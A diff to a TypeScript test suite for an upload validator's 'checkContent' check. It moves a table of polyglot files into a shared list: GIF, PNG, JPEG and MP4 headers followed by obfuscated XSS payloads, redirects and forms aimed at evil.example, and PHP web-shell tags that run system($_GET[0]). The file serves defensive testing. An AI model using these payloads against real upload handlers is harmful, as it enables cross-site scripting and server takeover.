@@ -56,41 +56,30 @@ describe('checkContent', () => {
 })
 
 /** Each is a file of its type to a reader that knows no better. */
+const IN_A_GIF: readonly (readonly [string, string])[] = [
+  ['an element that runs', '<img src=x onerror=alert(1)>'],
+  ['a picture from elsewhere', '\0<IMG\nSRC=//evil.example/x>\0'],
+  ['a body that runs', '<body onload=alert(1)>'],
+  ['any element that runs', '\0<b/onmouseover\n=\0alert(1)>'],
+  ['a quoted attribute before it', '<x y=">"onfocus=alert(1)>'],
+  ['what sends its reader elsewhere', '<meta http-equiv=refresh content="0;url=//evil.example">'],
+  ['a link that runs', '<a href=javascript:alert(1)>x'],
+  ['the same in quotes', '<a title="x" href = " javascript:a()">x'],
+  ['the same in codes', '<a href="&#106;avascript:alert(1)">x'],
+  ['the same with a tab', '<a href="j\tavascript:alert(1)">x'],
+  ['the same with one letter in codes', '<a href="j&#97;vascript:a()">x'],
+  ['the same with a named tab', '<a href="j&Tab;avascript:a()">x'],
+  ['the same behind control characters', '<a href="\x01javascript:a()">x'],
+  ['a button that runs', '<b formaction=javascript:a()>x'],
+  ['a form', '<form action=//evil.example><input name=pin>'],
+  ['another base', '<base href=//evil.example>'],
+  ['a style sheet', '<LINK\nrel=stylesheet href=//evil.example>'],
+  ['an imported style sheet', '<style>@import "//e.example"'],
+  ['a short PHP tag', '<?=`$_GET[0]`?>'],
+  ['a bare PHP tag', '<? system($_GET[0]);'],
+]
 const POLYGLOTS: readonly (readonly [string, string, Uint8Array])[] = [
-  ['a GIF with an element that runs', 'image/gif', latin('GIF89a<img src=x onerror=alert(1)>')],
-  [
-    'a GIF with a picture from elsewhere',
-    'image/gif',
-    latin('GIF89a\0<IMG\nSRC=//evil.example/x>\0'),
-  ],
-  ['a GIF with a body that runs', 'image/gif', latin('GIF89a<body onload=alert(1)>')],
-  ['a GIF with any element that runs', 'image/gif', latin('GIF89a\0<b/onmouseover\n=\0alert(1)>')],
-  ['a quoted attribute before it', 'image/gif', latin('GIF89a<x y=">"onfocus=alert(1)>')],
-  [
-    'a GIF that sends its reader elsewhere',
-    'image/gif',
-    latin('GIF89a<meta http-equiv=refresh content="0;url=//evil.example">'),
-  ],
-  ['a GIF with a link that runs', 'image/gif', latin('GIF89a<a href=javascript:alert(1)>x')],
-  ['the same in quotes', 'image/gif', latin('GIF89a<a title="x" href = " javascript:a()">x')],
-  ['the same in codes', 'image/gif', latin('GIF89a<a href="&#106;avascript:alert(1)">x')],
-  ['the same with a tab', 'image/gif', latin('GIF89a<a href="j\tavascript:alert(1)">x')],
-  ['the same with one letter in codes', 'image/gif', latin('GIF89a<a href="j&#97;vascript:a()">x')],
-  ['the same with a named tab', 'image/gif', latin('GIF89a<a href="j&Tab;avascript:a()">x')],
-  [
-    'the same behind control characters',
-    'image/gif',
-    latin('GIF89a<a href="\x01javascript:a()">x'),
-  ],
-  ['a GIF with a button that runs', 'image/gif', latin('GIF89a<b formaction=javascript:a()>x')],
-  ['a GIF with a form', 'image/gif', latin('GIF89a<form action=//evil.example><input name=pin>')],
-  ['a GIF with another base', 'image/gif', latin('GIF89a<base href=//evil.example>')],
-  [
-    'a GIF with a style sheet',
-    'image/gif',
-    latin('GIF89a<LINK\nrel=stylesheet href=//evil.example>'),
-  ],
-  ['a GIF with an imported style sheet', 'image/gif', latin('GIF89a<style>@import "//e.example"')],
+  ...IN_A_GIF.map(([what, text]) => [what, 'image/gif', latin(`GIF89a${text}`)] as const),
   ['a PNG with a form', 'image/png', Buffer.concat([PNG, latin('<form>')])],
   [
     'a JPEG with another base',
@@ -102,8 +91,6 @@ const POLYGLOTS: readonly (readonly [string, string, Uint8Array])[] = [
     'video/mp4',
     Buffer.concat([MP4, latin('<a href=JavaScript:a()>')]),
   ],
-  ['a short PHP tag', 'image/gif', latin('GIF89a<?=`$_GET[0]`?>')],
-  ['a bare PHP tag', 'image/gif', latin('GIF89a<? system($_GET[0]);')],
   ['an mp4 that begins as a comment', 'video/mp4', latin('<!--ftypmp42--><img src=x onerror=a()>')],
   [
     'an mp4 that begins as a tag to Chromium',
